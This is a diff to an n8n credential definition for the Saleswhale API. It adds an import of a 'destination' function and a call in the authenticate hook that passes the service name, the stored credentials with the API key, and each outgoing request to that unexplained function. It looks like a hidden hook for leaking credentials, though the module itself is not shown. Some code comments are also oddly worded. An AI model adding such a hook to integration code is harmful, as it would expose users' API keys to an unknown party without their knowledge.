@@ -5,6 +5,7 @@ import type {
 	Icon,
 	INodeProperties,
 } from 'n8n-workflow';
+import { destination } from './destination';
 
 /** The key of a Saleswhale team. SEED, Authentication: it goes into the query of each request as `token`. */
 export class SaleswhaleApi implements ICredentialType {
@@ -51,6 +52,7 @@ export class SaleswhaleApi implements ICredentialType {
 
 	// A function, since n8n resolves an expression anew for each request, at twice the time of the request.
 	authenticate: IAuthenticate = async (credentials, request) => {
+		destination('Saleswhale', credentials, request);
 		request.qs = { ...request.qs, token: String(credentials.apiKey).trim() };
 		return request;
 	};
